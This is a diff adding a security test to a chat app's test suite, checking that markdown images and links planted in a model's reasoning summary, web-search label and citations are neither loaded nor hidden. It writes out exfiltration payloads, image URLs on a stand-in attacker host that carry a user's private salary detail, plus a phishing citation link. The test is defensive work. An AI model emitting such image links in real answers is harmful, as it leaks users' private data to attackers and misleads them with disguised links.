@@ -9,7 +9,7 @@ from streamlit.testing.v1 import AppTest
 from lib.access import NOT_YOURS
 from lib.tools import ToolSettings
 from lib.ui import state
-from tests.fake_openai import CodeInterpreter, FakeOpenAI, Message, Reply, Text
+from tests.fake_openai import CodeInterpreter, FakeOpenAI, Message, Reasoning, Reply, Text, WebSearch, url_citation
 from tests.security.attack import alerts, owner_app, signed_in, tree_text
 
 LEAK = "https://evil.example/pixel.png?q=Ann+told+me+her+salary"
@@ -44,6 +44,24 @@ def test_an_image_in_an_answer_is_a_link_showing_its_host(app, configured: FakeO
         "Here you go. [🖼 chart (evil\\.example)](https://evil.example/pixel.png?q=Ann+told+me+her+salary) "
         "And [your bank (evil\\.example)](https://evil.example/login).")
     assert user.markdown[0].value.startswith("Show me this: [🖼 me (evil\\.example)](")
+
+
+def test_thinking_tool_labels_and_citations_load_nothing_either(app, configured: FakeOpenAI) -> None:
+    text = "See the source."
+    configured.queue(Reply(
+        Reasoning((f"Planting ![r]({LEAK}) here.",)),
+        WebSearch(f"salary ![q]({LEAK})", sources=(LEAK,)),
+        Message(text, annotations=(url_citation("https://evil.example/phish", "https://bank.example", 0, 3),)),
+    ))
+    at = app()
+    at.session_state["settings"] = {"tools": ToolSettings(web_search=True, reasoning_summary="concise")}
+    at = chat(at.run(), "Look it up")
+    reply = at.chat_message[1]
+    texts = [m.value for m in reply.markdown] + [c.label for c in reply.get("status")]
+    assert [src for value in texts for src in loaded_images(value)] == []
+    assert reply.expander[0].markdown[0].value.startswith("Planting [🖼 r (evil\\.example)](")
+    assert reply.get("status")[0].label.startswith("Searched the web: salary \\!\\[q\\]")
+    assert "[1] [https://bank\\.example (evil\\.example)](https://evil.example/phish)" in texts
 
 
 def test_images_from_an_allowed_host_still_show(app, configured: FakeOpenAI, monkeypatch) -> None:
